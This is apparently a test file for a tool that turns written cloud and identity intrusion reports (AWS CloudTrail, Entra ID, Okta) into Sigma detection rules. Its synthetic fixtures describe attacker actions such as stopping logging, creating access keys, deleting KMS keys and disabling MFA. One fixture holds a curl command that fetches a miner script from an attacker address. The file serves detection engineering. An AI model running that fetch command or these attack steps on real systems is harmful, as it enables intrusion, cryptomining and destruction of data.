import { selfTestGenerated } from '../generation/self-test-generated';
import { validateRuleDocument } from '../validate/validate-rule';
import { fidelityCheck } from '../vetting/fidelity';
import { detectionValues } from '../vetting/detection-values';
import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { cloudSourceAddresses, statedCloudBehaviours } from './cloud-rules';

// Cloud and identity intrusions written for these tests: what an AWS, Entra ID or Okta write-up says, in the
// words such write-ups use. None comes from a fixture article.

const article = { title: 'Synthetic cloud intrusion note', url: 'https://notes.example.org/cloud', date: '2026-11-27' };
const evidence = { start: 0, end: 1, text: 'x' };

const AWS_NOTE = `The actor used a leaked AWS access key. In CloudTrail we saw sts:GetCallerIdentity, then s3:ListBuckets and
secretsmanager:ListSecrets from 198.51.100.23. It then called iam:CreateAccessKey for a second user and
AttachUserPolicy with AdministratorAccess, and finally StopLogging on the organisation trail.`;

const ENTRA_NOTE = `After the AiTM phish, the operator signed in to Entra ID from 203.0.113.77 and registered a new MFA method
(an authenticator app) on the victim's account, then consented to a malicious OAuth app.`;

const OKTA_NOTE = `The Okta System Log showed user.mfa.factor.reset_all for the help desk account, followed by
system.api_token.create from 192.0.2.44.`;

const RANSOM_NOTE = `With the stolen AWS keys the actor called ScheduleKeyDeletion on the customer-managed keys, then
DeleteBackupVault, and finally LeaveOrganization from 198.51.100.61.`;

const ENTRA_TAMPER_NOTE = `In the Entra ID audit log the intruder's session shows Disable Strong Authentication for two accounts and
Update conditional access policy on the policy that required compliant devices, from 203.0.113.90.`;

const MINER_NOTE = `With the stolen AWS keys the actor called RunInstances for twenty c5.metal and p3.16xlarge instances, then
AuthorizeSecurityGroupIngress opening port 22 to 0.0.0.0/0, and RegisterTaskDefinition with the image
minerco/xmr-worker:v2 before RunTask.`;

const ip = (value: string) => ({ value, kind: 'ipv4' as const, evidence, confidence: 0.9 });
const observables = (ips: string[]) => ips.map((value) => ({ type: 'ipv4', value }));

function rulesOf(content: string, ips: string[], extra: Partial<BuiltinSigmaInput> = {}) {
  return generateBuiltinRules({ article, platform: 'cross-platform', content, network: ips.map(ip), ...extra });
}

describe('cloud and identity behaviour rules', () => {
  it('writes one CloudTrail rule per behaviour the article names, keyed on eventSource and eventName', () => {
    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23']).filter((draft) => draft.telemetryClass === 'cloud_audit');
    expect(drafts.map((draft) => draft.rule.title).sort()).toEqual([
      'AWS CloudTrail Logging Stopped Or Trail Modified',
      'AWS IAM Access Key Created',
      'AWS IAM Permissions Granted To A User, Role Or Group',
      'AWS Secrets Manager Secrets Or SSM Parameters Listed',
    ]);
    const trail = drafts.find((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
    expect(trail?.rule.logsource).toEqual({ product: 'aws', service: 'cloudtrail' });
    expect(trail?.rule.detection['selection']).toEqual({
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'StopLogging',
    });
  });

  it("cuts a behaviour's calls to those the article names and the behaviour's defining one", () => {
    const note = 'In AWS CloudTrail the intruder called UpdateTrail to drop the data events, then CreateAccessKey.';
    const drafts = rulesOf(note, []).filter((draft) => draft.telemetryClass === 'cloud_audit');
    const trail = drafts.find((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
    expect(trail?.rule.detection['selection']).toEqual({
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: ['StopLogging', 'UpdateTrail'],
    });
    for (const draft of drafts) expect(selfTestGenerated(draft.rule as unknown as Record<string, unknown>, [], note).fires).toBe(true);
  });

  it('gives routine calls no rule of their own: the addresses are swept in CloudTrail, naming the calls', () => {
    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23']);
    expect(drafts.some((draft) => draft.rule.title.includes('Discovery'))).toBe(false);
    expect(drafts.filter((draft) => draft.telemetryClass === 'network_connection')).toEqual([]);
    const sweep = drafts.find((draft) => draft.telemetryClass === 'cloud_indicator');
    expect(sweep?.rule.detection['selection']).toEqual({ sourceIPAddress: ['198.51.100.23'] });
    expect(sweep?.rule.description).toContain('ListBuckets');
  });

  it('keeps an endpoint connection rule when the article also quotes commands, sweeping in CloudTrail only the addresses the calls came from', () => {
    const cmdline = { value: 'curl -s http://198.51.100.99/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
    const note = `${AWS_NOTE}\nOn the instance the miner then fetched its script from 198.51.100.99.`;
    const drafts = rulesOf(note, ['198.51.100.23', '198.51.100.99'], { cmdlines: [cmdline] });
    expect(drafts.some((draft) => draft.telemetryClass === 'network_connection')).toBe(true);
    const swept = drafts.filter((draft) => draft.telemetryClass === 'cloud_indicator');
    expect(swept.map((draft) => draft.rule.detection['selection'])).toEqual([{ sourceIPAddress: ['198.51.100.23'] }]);
    expect(selfTestGenerated(swept[0]?.rule as unknown as Record<string, unknown>, observables(['198.51.100.23']), note).fires).toBe(true);
    // Written defanged, the address is the same one.
    expect(
      cloudSourceAddresses('CloudTrail showed the calls came from 198.51.100[.]23.', [{ kind: 'ipv4', value: '198.51.100.23' }]),
    ).toEqual(['198.51.100.23']);
  });

  it('reads Entra ID behaviours from prose and sweeps the addresses in the sign-in logs', () => {
    const drafts = rulesOf(ENTRA_NOTE, ['203.0.113.77']);
    const titles = drafts.map((draft) => draft.rule.title);
    expect(titles).toContain('Entra ID Authentication Method Registered');
    expect(titles).toContain('Entra ID Application Granted Consent Or Permissions');
    const mfa = drafts.find((draft) => draft.rule.title === 'Entra ID Authentication Method Registered');
    expect(mfa?.rule.logsource).toEqual({ product: 'azure', service: 'auditlogs' });
    const sweep = drafts.find((draft) => draft.telemetryClass === 'cloud_indicator');
    expect(sweep?.rule.logsource).toEqual({ product: 'azure', service: 'signinlogs' });
    expect(sweep?.rule.detection['selection']).toEqual({ IPAddress: ['203.0.113.77'] });
  });

  it('keys Okta rules on eventType', () => {
    const drafts = rulesOf(OKTA_NOTE, ['192.0.2.44']).filter((draft) => draft.rule.logsource['product'] === 'okta');
    expect(drafts.map((draft) => draft.rule.detection['selection'])).toEqual(
      expect.arrayContaining([
        { eventType: ['user.mfa.factor.deactivate', 'user.mfa.factor.reset_all'] },
        { eventType: 'system.api_token.create' },
        { 'client.ipAddress': ['192.0.2.44'] },
      ]),
    );
  });

  it.each([
    ['AWS', AWS_NOTE, ['198.51.100.23']],
    ['Entra ID', ENTRA_NOTE, ['203.0.113.77']],
    ['Okta', OKTA_NOTE, ['192.0.2.44']],
    ['AWS destruction', RANSOM_NOTE, ['198.51.100.61']],
    ['Entra ID tampering', ENTRA_TAMPER_NOTE, ['203.0.113.90']],
  ])('every %s rule is valid, backed by the text, and fires on the audit records the article describes', (_, content, ips) => {
    const drafts = rulesOf(content, ips).filter((draft) => draft.telemetryClass.startsWith('cloud_'));
    expect(drafts.length).toBeGreaterThan(1);
    for (const draft of drafts) {
      const rule = draft.rule as unknown as Record<string, unknown>;
      expect(validateRuleDocument(rule).findings).toEqual([]);
      expect(fidelityCheck(detectionValues(rule), [content, ...ips])).toEqual({ ok: true, unsupported_values: [] });
      expect(selfTestGenerated(rule, observables(ips), content).fires).toBe(true);
    }
  });

  it('keys key and backup destruction, leaving the organization and MFA or policy tampering on their operations', () => {
    const titles = (content: string, ips: string[]) =>
      rulesOf(content, ips)
        .filter((draft) => draft.telemetryClass === 'cloud_audit')
        .map((draft) => draft.rule.title)
        .sort();
    expect(titles(RANSOM_NOTE, ['198.51.100.61'])).toEqual([
      'AWS Account Left Or Removed From Its Organization',
      'AWS Encryption Keys Or Backups Destroyed',
    ]);
    expect(titles(ENTRA_TAMPER_NOTE, ['203.0.113.90'])).toEqual([
      'Entra ID Conditional Access Policy Or Named Location Changed',
      'Entra ID Per-User MFA Disabled',
    ]);
    const [destroyed] = rulesOf(RANSOM_NOTE, []).filter((draft) => draft.rule.title === 'AWS Encryption Keys Or Backups Destroyed');
    expect(destroyed?.rule.detection['selection_1']).toEqual({
      eventSource: 'kms.amazonaws.com',
      eventName: 'ScheduleKeyDeletion',
    });
  });

  it('keys the calls on the request parameters the article states, and routine calls only on them', () => {
    const drafts = rulesOf(MINER_NOTE, []).filter((draft) => draft.telemetryClass === 'cloud_audit');
    const compute = drafts.find((draft) => draft.rule.title === 'AWS Compute Instances Or Functions Started');
    expect(compute?.rule.detection).toEqual({
      selection: {
        eventSource: 'ec2.amazonaws.com',
        eventName: 'RunInstances',
        // A large size is the behaviour whatever the family: the smallest stated and every larger one.
        'requestParameters.instanceType|endswith': ['.16xlarge', '.24xlarge', '.metal'],
      },
      condition: 'selection',
    });
    // Opening a security group is no routine call: its own rule, keyed on the range the article states.
    const opened = drafts.find((draft) => draft.rule.title === 'AWS Security Group, Network ACL Or Route Opened');
    expect(opened?.rule.detection).toEqual({
      selection: {
        eventSource: 'ec2.amazonaws.com',
        eventName: 'AuthorizeSecurityGroupIngress',
        'requestParameters.ipPermissions.items.ipRanges.items.cidrIp': '0.0.0.0/0',
      },
      condition: 'selection',
    });
    // The task definition's image keys the ECS rule, beside the task run (not routine: no parameter needed).
    const ecs = drafts.find((draft) => draft.rule.title === 'AWS ECS Cluster, Task Definition Or Service Created');
    expect(ecs?.rule.detection).toEqual({
      selection_1: {
        eventSource: 'ecs.amazonaws.com',
        eventName: 'RegisterTaskDefinition',
        'requestParameters.containerDefinitions.image': 'minerco/xmr-worker:v2',
      },
      selection_2: { eventSource: 'ecs.amazonaws.com', eventName: ['CreateCluster', 'RunTask'] },
      condition: '1 of selection_*',
    });
    const rule = compute?.rule as unknown as Record<string, unknown>;
    expect(validateRuleDocument(rule).findings).toEqual([]);
    expect(fidelityCheck(detectionValues(rule), [MINER_NOTE])).toEqual({ ok: true, unsupported_values: [] });
    const result = selfTestGenerated(rule, [], MINER_NOTE);
    expect(result.fired_on.sort()).toEqual(['cloud: RunInstances']);
    // The same calls with other parameters are every account's: the rule does not fire on them.
    const routine = 'In AWS CloudTrail the actor called RunInstances for a t3.micro and AuthorizeSecurityGroupIngress for 10.0.0.0/8.';
    expect(selfTestGenerated(rule, [], routine).fires).toBe(false);
    const openedRule = opened?.rule as unknown as Record<string, unknown>;
    expect(selfTestGenerated(openedRule, [], MINER_NOTE).fired_on).toEqual(['cloud: AuthorizeSecurityGroupIngress']);
    expect(selfTestGenerated(openedRule, [], routine).fires).toBe(false);
  });

  it('reads instance sizes from prose that only describes the launch, never a range or an image it names no call for', () => {
    const note = `With the stolen AWS access keys the intruder created 30 instances of g4dn.12xlarge and opened the group to
0.0.0.0/0; its script pulled ops/helper:1.2 from a registry.`;
    const [compute] = rulesOf(note, []).filter((draft) => draft.rule.title === 'AWS Compute Instances Or Functions Started');
    expect(compute?.rule.detection).toEqual({
      selection: {
        eventSource: 'ec2.amazonaws.com',
        eventName: 'RunInstances',
        'requestParameters.instanceType|endswith': ['.12xlarge', '.16xlarge', '.24xlarge', '.metal'],
      },
      condition: 'selection',
    });
    // A small size says nothing by itself: the type is keyed whole (a GPU family's xlarge).
    const small = `With the stolen AWS access keys the intruder created 30 instances of g4dn.xlarge for its miner.`;
    const [gpu] = rulesOf(small, []).filter((draft) => draft.rule.title === 'AWS Compute Instances Or Functions Started');
    expect(gpu?.rule.detection['selection']).toEqual({
      eventSource: 'ec2.amazonaws.com',
      eventName: 'RunInstances',
      'requestParameters.instanceType': 'g4dn.xlarge',
    });
    expect(selfTestGenerated(compute?.rule as unknown as Record<string, unknown>, [], note).fires).toBe(true);
  });

  it('keys an attached policy on the managed policy the article names', () => {
    const [granted] = rulesOf(AWS_NOTE, []).filter((draft) => draft.rule.title === 'AWS IAM Permissions Granted To A User, Role Or Group');
    expect(granted?.rule.detection['selection']).toEqual({
      eventSource: 'iam.amazonaws.com',
      eventName: 'AttachUserPolicy',
      'requestParameters.policyArn|endswith': '/AdministratorAccess',
    });
    const other = 'In AWS CloudTrail the actor called AttachUserPolicy with ReadOnlyAccess.';
    expect(selfTestGenerated(granted?.rule as unknown as Record<string, unknown>, [], other).fires).toBe(false);
  });

  it('does not fire a cloud rule on the records of another behaviour', () => {
    const [trail] = rulesOf(AWS_NOTE, []).filter((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
    const okOnly = 'In AWS CloudTrail the actor called CreateAccessKey.';
    expect(selfTestGenerated(trail?.rule as unknown as Record<string, unknown>, [], okOnly).fires).toBe(false);
  });

  it('reads the call an AWS CLI command makes', () => {
    const stated = statedCloudBehaviours(
      'On the EC2 host the actor ran `aws iam create-access-key --user-name svc-ci` and `aws cloudtrail stop-logging --name org`.',
    );
    expect(stated.map(({ behaviour, events }) => [behaviour.id, events])).toEqual([
      ['aws-cloudtrail-stopped', ['StopLogging']],
      ['aws-iam-credentials-created', ['CreateAccessKey']],
    ]);
  });

  it('reads event names only in an article about the provider', () => {
    expect(statedCloudBehaviours('The installer calls CreateUser and then StopLogging on its own service.')).toEqual([]);
    expect(statedCloudBehaviours('Recommendation: review your policies.')).toEqual([]);
  });
});
